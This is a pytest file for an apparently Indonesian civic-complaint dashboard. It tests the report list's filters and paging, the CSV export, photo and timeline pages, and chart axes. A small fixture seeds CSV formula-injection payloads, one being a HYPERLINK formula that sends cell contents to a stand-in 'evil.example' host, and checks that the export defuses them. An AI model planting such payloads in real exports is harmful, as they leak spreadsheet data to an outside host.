"""The dashboard's reports: the filtered, paged list, one report with its photo and timeline,
the photo behind the dashboard's login, the CSV export read back with the csv module, and
chart axes that start at zero with whole-report ticks.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import analytics_data
import httpx
import pytest
from app_server import API_TOKEN, ConsoleCitizen, api, make_service, serve
from helpers import jpeg_with_gps
from PIL import Image

from bot.compose import Service, create_app

END = datetime(2026, 3, 30, 5, 0, tzinfo=UTC)  # Monday 12:00 WIB
WIB = timedelta(hours=7)
INSIDE = "-7.6298 111.5239"  # a point in Kel. Kejuron, Kec. Taman
HOSTILE = {
    1: '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    2: "+62 812 lampu mati",
    3: "-lubang di jalan",
    4: "@SUM(A1:A9)",
    5: 'jalan "rusak", parah;\nbaris kedua, ümlaut é',
}


def bearer(base_url: str) -> httpx.AsyncClient:
    return httpx.AsyncClient(
        base_url=base_url, headers={"Authorization": f"Bearer {API_TOKEN}"}, timeout=30
    )


@pytest.fixture
async def city(
    database_url: str, tmp_path: Path
) -> AsyncIterator[tuple[str, analytics_data.Generated]]:
    """600 generated reports, five with descriptions a spreadsheet would run as formulas."""
    data = analytics_data.generate(600, end=END, days=80, seed=11)
    rows = data.rows["reports"]
    for rid, text in HOSTILE.items():
        r = list(rows[rid - 1])
        r[5] = text
        rows[rid - 1] = tuple(r)
    analytics_data.write(database_url, data)
    service: Service = make_service(database_url, tmp_path)
    service.clock = lambda: END
    async with serve(create_app(service, workers=False)) as base_url:
        yield base_url, data


def _local_day(at: datetime) -> str:
    return (at.astimezone(UTC) + WIB).date().isoformat()


async def test_the_list_filters_and_pages(city: tuple[str, analytics_data.Generated]) -> None:
    base_url, data = city
    rows = data.rows["reports"]
    async with httpx.AsyncClient(base_url=base_url) as anonymous:
        assert (await anonymous.get("/dashboard/reports")).status_code == 401
        assert (await anonymous.get("/dashboard/reports.csv")).status_code == 401
    async with bearer(base_url) as officer:
        everything = await officer.get("/dashboard/reports")
        assert everything.status_code == 200
        assert f"{len(rows)} laporan" in everything.text
        assert "halaman 1 dari 12" in everything.text
        assert everything.text.count('<tr class="report">') == 50
        # newest first: the first row is the newest report
        newest = max(rows, key=lambda r: r[17])
        first = re.search(
            r'<tr class="report"><td><a href="[^"]+">([A-Z]+-\d+)</a>', everything.text
        )
        assert first is not None and first.group(1) == newest[1]
        last_page = await officer.get("/dashboard/reports", params={"page": 12})
        assert last_page.text.count('<tr class="report">') == len(rows) - 11 * 50
        assert 'rel="next"' not in last_page.text and 'rel="prev"' in last_page.text

        # Every filter at once; "until" is the last day included.
        where = {
            "status": "resolved",
            "agency": "dpupr",
            "channel": "whatsapp",
            "since": "2026-03-01",
            "until": "2026-03-15",
        }
        chosen = await officer.get("/dashboard/reports", params=where)
        expected = [
            r
            for r in rows
            if r[2] == "resolved"
            and r[4] == "dpupr"
            and r[14] == "whatsapp"
            and "2026-03-01" <= _local_day(r[17]) <= "2026-03-15"
        ]
        assert 0 < len(expected) <= 50
        shown = re.findall(r'<tr class="report"><td><a href="[^"]+">([A-Z]+-\d+)</a>', chosen.text)
        assert sorted(shown) == sorted(r[1] for r in expected)
        # the form keeps what was chosen, and the CSV link carries the same filters
        assert '<option value="dpupr" selected>' in chosen.text
        assert "reports.csv?status=resolved&amp;agency=dpupr&amp;channel=whatsapp" in chosen.text

        # ... and the kelurahan filter (by code).
        code, name = rows[0][10], rows[0][8]
        in_place = await officer.get("/dashboard/reports", params={"kelurahan": code})
        count = sum(1 for r in rows if r[10] == code)
        assert f"{count} laporan" in in_place.text
        assert set(re.findall(r"<td>([^<]+)</td><td class=\"n\">", in_place.text)) == {name}

        for bad, word in (({"status": "done"}, "status"), ({"since": "kemarin"}, "since"),
                          ({"page": "0"}, "page"), ({"agency": "x" * 65}, "agency")):  # fmt: skip
            refused = await officer.get("/dashboard/reports", params=bad)
            assert refused.status_code == 422 and word in refused.text, bad


async def test_the_csv_export_reads_back(city: tuple[str, analytics_data.Generated]) -> None:
    base_url, data = city
    rows = data.rows["reports"]
    # A browser with the dashboard cookie (Path=/dashboard) may download it too.
    async with httpx.AsyncClient(base_url=base_url) as browser:
        opened = await browser.get("/dashboard", params={"token": API_TOKEN})
        assert opened.status_code == 303
        browser.cookies = opened.cookies
        response = await browser.get("/dashboard/reports.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="laporan-')
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for spreadsheets
    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert len(table) == len(rows)
    assert len({r["ticket"] for r in table}) == len(rows)  # each report once, across batches
    by_ticket = {r["ticket"]: r for r in table}
    for rid, text in HOSTILE.items():
        cell = by_ticket[f"MDN-{rid:05d}"]["description"]
        if text[0] in "=+-@":
            assert cell == "'" + text  # shown as text, never run as a formula
        else:
            assert cell == text  # quotes, commas, a line break and accents survive
    for cell in (c for r in table for c in r.values()):
        assert not cell.startswith(("=", "+", "@")), cell
        assert not cell.startswith("-") or _number(cell), cell
    one = by_ticket["MDN-00010"]
    source = rows[9]
    assert float(one["lat"]) == source[6] and float(one["lon"]) == source[7]  # numbers stay
    assert one["agency"] == source[4] and one["status"] == source[2]
    assert one["anonymous"] == ("true" if source[12] else "false")

    async with bearer(base_url) as officer:
        filtered = await officer.get(
            "/dashboard/reports.csv", params={"status": "received", "category": "jalan"}
        )
    lines = list(csv.reader(io.StringIO(filtered.content.decode("utf-8-sig"), newline="")))
    expected = [r for r in rows if r[2] == "received" and r[3] == "jalan"]
    assert len(lines) == 1 + len(expected) and lines[0][0] == "ticket"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_a_report_shows_its_photo_and_timeline(database_url: str, tmp_path: Path) -> None:
    service = make_service(database_url, tmp_path)
    photo = tmp_path / "sampah.jpg"
    photo.write_bytes(jpeg_with_gps())
    async with serve(create_app(service, workers=False)) as base_url:
        citizen = ConsoleCitizen.attach(service)
        await citizen.type("halo")
        await citizen.type("1")  # setuju
        await citizen.type("Sampah numpuk udh 3 hari gk diangkut di pinggir jalan, bau bgt")
        await citizen.type("ya")
        await citizen.type(f"/lokasi {INSIDE}")
        await citizen.type(f"/foto {photo}")
        await citizen.type("selesai")
        await citizen.type("2")  # anonim
        assert "MDN-00001" in await citizen.type("kirim")
        await service.media.fetch_due()  # the photo is stored, as the server's fetcher does
        async with api(base_url) as client:
            moved = await client.post(
                "/api/reports/MDN-00001/status",
                json={"status": "verified", "note": "dicek ke lokasi", "actor": "budi"},
            )
            assert moved.status_code == 200, moved.text
            replied = await client.post(
                "/api/reports/MDN-00001/replies",
                json={"text": "Truk sampah dijadwalkan besok pagi", "actor": "budi"},
            )
            assert replied.status_code == 201
        await citizen.type("TAMBAH MDN-00001 sekarang tambah banyak")

        async with bearer(base_url) as officer:
            page = await officer.get("/dashboard/reports/mdn-00001")
            assert page.status_code == 200
            assert "img-src 'self'" in page.headers["content-security-policy"]
            html = page.text
            assert "<h1>MDN-00001 · Terverifikasi</h1>" in html
            assert "Sampah numpuk" in html and "Kejuron" in html
            assert "<th>Pelapor</th><td>anonim</td>" in html
            sources = re.findall(r'<img class="photo" src="(/dashboard/media/\d+)"', html)
            assert len(sources) == 1
            # the timeline, oldest first: filed, verified with its note, the reply, the addition
            timeline = html[html.index('<section class="timeline">') :]
            order = [
                timeline.index(s)
                for s in (
                    "<td>Diterima</td>",
                    "dicek ke lokasi",
                    "Truk sampah dijadwalkan besok pagi",
                    "sekarang tambah banyak",
                )
            ]
            assert order == sorted(order)
            assert "Balasan petugas" in timeline and "Tambahan dari pelapor" in timeline

            image = await officer.get(sources[0])
            assert image.status_code == 200 and image.headers["content-type"] == "image/jpeg"
            with Image.open(io.BytesIO(image.content)) as shown:
                assert shown.size == (64, 48)
                assert not shown.getexif().get(0x8825)  # the stored copy has no GPS

            missing = await officer.get("/dashboard/reports/MDN-09999")
            assert missing.status_code == 404
            assert (await officer.get("/dashboard/media/99999")).status_code == 404
        async with httpx.AsyncClient(base_url=base_url) as anonymous:
            assert (await anonymous.get(sources[0])).status_code == 401
            assert (await anonymous.get("/dashboard/reports/MDN-00001")).status_code == 401


async def test_the_weekly_chart_counts_whole_reports_from_zero(
    sqlite_url: str, tmp_path: Path
) -> None:
    # Few reports: the old axis labelled 0.25-report steps as "0, 0, 1, 1"...
    service: Service = make_service(sqlite_url, tmp_path)
    data = analytics_data.generate(14, end=END, days=40, seed=4)
    analytics_data.write(sqlite_url, data)
    service.clock = lambda: END
    async with serve(create_app(service, workers=False)) as base_url, bearer(base_url) as officer:
        page = (await officer.get("/dashboard", params={"since": "2026-02-16"})).text
    weekly = re.search(r'<svg class="chart weekly".*?</svg>', page, re.S)
    assert weekly is not None
    ticks = [int(t) for t in re.findall(r'<text class="tick"[^>]*>(\d+)</text>', weekly.group(0))]
    assert ticks[0] == 0 and len(ticks) >= 2
    steps = {b - a for a, b in zip(ticks, ticks[1:], strict=False)}
    assert len(steps) == 1 and steps.pop() >= 1  # evenly spaced whole numbers
    week_totals: dict[str, int] = {}
    for label, n in re.findall(r"<title>(\d\d/\d\d): \w+ (\d+)</title>", weekly.group(0)):
        week_totals[label] = week_totals.get(label, 0) + int(n)
    assert ticks[-1] >= max(week_totals.values())
    assert 'class="baseline"' in weekly.group(0) and ">laporan</text>" in weekly.group(0)
    agencies = re.search(r'<svg class="chart agencies".*?</svg>', page, re.S)
    assert agencies is not None
    assert re.search(r'class="axis-title"[^>]*>(jam|hari)</text>', agencies.group(0))
    labels = re.findall(r'<text class="tick"[^>]*>([\d,]+)</text>', agencies.group(0))
    assert labels[0] == "0" and not any(" " in label for label in labels)  # one unit
